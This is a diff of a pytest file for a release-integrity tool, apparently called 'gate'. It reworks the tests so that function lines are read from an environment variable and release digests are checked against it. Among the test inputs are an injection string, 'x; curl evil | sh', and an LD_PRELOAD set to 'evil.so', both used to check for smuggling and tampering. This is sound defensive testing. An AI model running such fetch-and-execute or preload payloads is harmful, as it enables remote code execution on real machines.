@@ -25,6 +25,7 @@ from gate.surface import (
     Surface,
     SurfaceError,
     entry,
+    function_lines,
     functions_of,
     stable_urn,
 )
@@ -44,6 +45,7 @@ from tests.gate.stacks import (
     shuffled_resources,
     surface,
     wire,
+    with_environment,
 )
 
 pytestmark = pytest.mark.rows("K5")
@@ -370,12 +372,9 @@ def test_nothing_of_the_real_program_is_unknown_or_secret() -> None:
 
 def test_the_content_of_the_functions_is_not_part_of_it() -> None:
     found = release()
-    contents = [str(trigger).split(" ") for trigger in found.inputs["triggers"]]
-    other = with_inputs(
-        found,
-        triggers=[" ".join([name, "f" * 64, *rest]) for name, _, *rest in contents],
-        environment={**found.inputs["environment"], "PF_RELEASE": "0123456789abcdef"},
-    )
+    contents = [line.split(" ") for line in function_lines(found.inputs)]
+    lines = [" ".join([name, "f" * 64, *rest]) for name, _, *rest in contents]
+    other = with_environment(found, PF_RELEASE="0123456789abcdef", PF_RELEASE_FUNCTIONS="\n".join(lines))
     assert form(other).digest == form(found).digest
 
 
@@ -392,9 +391,7 @@ def test_the_content_of_the_functions_is_not_part_of_it() -> None:
         {"environment": {"PF_PROJECT_REF": "sandboxsandboxsandbo", "PF_RELEASE": "0123456789abcdef\n"}},
         {"environment": {"PF_PROJECT_REF": "sandboxsandboxsandbo", "PF_RELEASE": "0123456789ABCDEF"}},
         {"environment": {"PF_PROJECT_REF": "sandboxsandboxsandbo", "PF_RELEASE": "0" * 16, "LD_PRELOAD": "evil.so"}},
-        {"triggers": []},
-        {"triggers": ["another " + "0" * 64 + " verify_jwt=true"]},
-        {"triggers": "encrypt-data " + "0" * 64},
+        {"triggers": ["encrypt-data " + "0" * 64 + " verify_jwt=true"]},
     ],
     ids=lambda change: str(change)[:60],
 )
@@ -402,18 +399,25 @@ def test_everything_else_of_the_release_is(change: dict[str, Any]) -> None:
     assert form(with_inputs(release(), **change)).digest != form(release()).digest
 
 
+@pytest.mark.parametrize("functions", ["", "another " + "0" * 64 + " verify_jwt=true", ["encrypt-data " + "0" * 64]])
+def test_which_functions_there_are_is_part_of_it(functions: object) -> None:
+    assert form(with_environment(release(), PF_RELEASE_FUNCTIONS=functions)).digest != form(release()).digest
+
+
 def test_whether_a_function_checks_tokens_is_part_of_it() -> None:
-    triggers = [str(trigger).replace("verify_jwt=true", "verify_jwt=false") for trigger in release().inputs["triggers"]]
-    assert triggers != release().inputs["triggers"]
-    assert form(with_inputs(release(), triggers=triggers)).digest != form(release()).digest
+    functions = "\n".join(function_lines(release().inputs))
+    opened = functions.replace("verify_jwt=true", "verify_jwt=false")
+    assert opened != functions
+    assert form(with_environment(release(), PF_RELEASE_FUNCTIONS=opened)).digest != form(release()).digest
 
 
 @pytest.mark.parametrize(
-    "trigger",
+    "line",
     ["x; curl evil | sh " + "0" * 64, "x " + "0" * 63, "x " + "g" * 64, "x " + "0" * 64 + " verify_jwt=maybe", "x"],
 )
-def test_no_trigger_smuggles_anything_as_content(trigger: str) -> None:
-    assert form(with_inputs(release(), triggers=[trigger])).document["inputs"]["triggers"] == [trigger]
+def test_no_line_smuggles_anything_as_content(line: str) -> None:
+    document = form(with_environment(release(), PF_RELEASE_FUNCTIONS=line)).document
+    assert document["inputs"]["environment"]["PF_RELEASE_FUNCTIONS"] == line
 
 
 def test_no_other_command_has_content_that_does_not_count() -> None:
@@ -425,11 +429,12 @@ def test_no_other_command_has_content_that_does_not_count() -> None:
 
 def test_the_content_of_every_release_is_listed() -> None:
     more = replace(release(), urn=release().urn.replace("functions-release", "more-release"))
-    more = with_inputs(more, triggers=["hook " + "0" * 64])
-    lines = sorted([*release().inputs["triggers"], "hook " + "0" * 64])
+    more = with_environment(more, PF_RELEASE_FUNCTIONS="hook " + "0" * 64)
+    lines = sorted([*function_lines(release().inputs), "hook " + "0" * 64])
     assert functions_of([*wire(), more]) == functions_of([more, *wire()]) == tuple(lines)
     assert functions_of([one(KEY)]) == ()
-    assert functions_of([with_inputs(release(), triggers="x")]) == ()
+    assert functions_of([with_environment(release(), PF_RELEASE_FUNCTIONS=["x"])]) == ()
+    assert functions_of([with_inputs(release(), environment="x")]) == ()
 
 
 # Providers
